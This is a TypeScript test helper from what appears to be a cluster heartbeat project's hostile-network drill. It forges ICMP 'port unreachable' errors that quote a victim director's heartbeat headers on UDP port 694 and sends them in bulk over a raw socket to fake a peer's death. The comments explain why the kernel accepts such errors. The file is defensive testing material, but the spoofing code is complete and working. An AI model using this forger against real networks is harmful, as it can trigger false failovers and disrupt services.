/**
 * The ICMP forger of the hostile drill (hostile-icmp.test.ts): a host on the segment without
 * the heartbeat key sends "destination unreachable, port unreachable" (type 3, code 3) to a
 * director, quoting the IP and UDP headers of that director's own heartbeats to its peer.
 * Both addresses and the port (694) are visible in the clear, so nothing more is needed for
 * the director's kernel to pin the error on the socket connected to the peer, exactly as if
 * the peer's agent had died. The outer source is the forger's own address: Linux does not
 * check who reports an ICMP error, only what it quotes.
 *
 *   node dist/test/netns/icmp-forger.js --to 198.51.100.11 --quote-src 198.51.100.11 \
 *     --quote-dst 198.51.100.10 [--sport 694] [--dport 694] --count 400 --every 5
 *
 * Runs inside the attacker's namespace (a raw ICMP socket needs CAP_NET_RAW there); prints a
 * JSON line { sent, sendErrors, ms }.
 */
import { createRequire } from 'node:module';
import { isIPv4 } from 'node:net';
import { pathToFileURL } from 'node:url';
import { parseArgs } from 'node:util';

/** The Internet checksum (RFC 1071): one's complement of the one's complement sum of 16-bit words. */
export function inetChecksum(buf: Buffer): number {
  let sum = 0;
  for (let i = 0; i + 1 < buf.length; i += 2) sum += buf.readUInt16BE(i);
  if (buf.length % 2 === 1) sum += buf[buf.length - 1]! << 8;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

function ipv4(text: string): Buffer {
  if (!isIPv4(text)) throw new Error(`not an IPv4 address: ${text}`);
  return Buffer.from(text.split('.').map(Number));
}

export interface Quoted {
  /** the original datagram's source and destination (the victim's heartbeat to its peer). */
  src: string;
  dst: string;
  sport: number;
  dport: number;
  /** UDP payload length of the quoted datagram (a heartbeat: 56 bytes with 2-byte names). */
  payloadLen?: number;
}

/**
 * ICMP type 3 code 3 (RFC 792) carrying the quoted datagram's IPv4 header and the first 8
 * bytes of its UDP header, checksummed. The kernel adds the outer IP header.
 */
export function portUnreachable(q: Quoted): Buffer {
  const udpLen = 8 + (q.payloadLen ?? 56);
  const ip = Buffer.alloc(20);
  ip[0] = 0x45; // version 4, header 5 words
  ip.writeUInt16BE(20 + udpLen, 2);
  ip[6] = 0x40; // don't fragment
  ip[8] = 64; // TTL
  ip[9] = 17; // UDP
  ipv4(q.src).copy(ip, 12);
  ipv4(q.dst).copy(ip, 16);
  ip.writeUInt16BE(inetChecksum(ip), 10);
  const udp = Buffer.alloc(8);
  udp.writeUInt16BE(q.sport, 0);
  udp.writeUInt16BE(q.dport, 2);
  udp.writeUInt16BE(udpLen, 4);
  const icmp = Buffer.concat([Buffer.from([3, 3, 0, 0, 0, 0, 0, 0]), ip, udp]);
  icmp.writeUInt16BE(inetChecksum(icmp), 2);
  return icmp;
}

interface RawSocket {
  send(buf: Buffer, offset: number, length: number, address: string, before: null, after: (err: Error | null) => void): void;
  on(event: 'error', fn: (e: Error) => void): void;
  close(): void;
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      to: { type: 'string' }, 'quote-src': { type: 'string' }, 'quote-dst': { type: 'string' },
      sport: { type: 'string', default: '694' }, dport: { type: 'string', default: '694' },
      count: { type: 'string', default: '1' }, every: { type: 'string', default: '10' },
    },
  });
  const need = (v: string | undefined, name: string): string => {
    if (v === undefined) throw new Error(`${name} is required`);
    return v;
  };
  const to = need(values.to, '--to');
  const msg = portUnreachable({ src: need(values['quote-src'], '--quote-src'), dst: need(values['quote-dst'], '--quote-dst'), sport: Number(values.sport), dport: Number(values.dport) });
  const raw = createRequire(import.meta.url)('raw-socket') as { createSocket(o: { protocol: number }): RawSocket; Protocol: { ICMP: number } };
  const sock = raw.createSocket({ protocol: raw.Protocol.ICMP });
  sock.on('error', () => undefined);
  const count = Math.max(1, Math.min(100_000, Number(values.count)));
  const every = Math.max(0, Number(values.every));
  const t0 = performance.now();
  let sent = 0;
  let sendErrors = 0;
  for (let i = 0; i < count; i++) {
    await new Promise<void>((resolve) => sock.send(msg, 0, msg.length, to, null, (err) => {
      if (err) sendErrors++;
      else sent++;
      resolve();
    }));
    if (every > 0 && i + 1 < count) await new Promise((r) => setTimeout(r, every));
  }
  sock.close();
  process.stdout.write(JSON.stringify({ sent, sendErrors, ms: performance.now() - t0 }) + '\n');
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  main().catch((err: unknown) => {
    process.stderr.write(`icmp-forger: ${err instanceof Error ? err.message : String(err)}\n`);
    process.exit(64);
  });
}
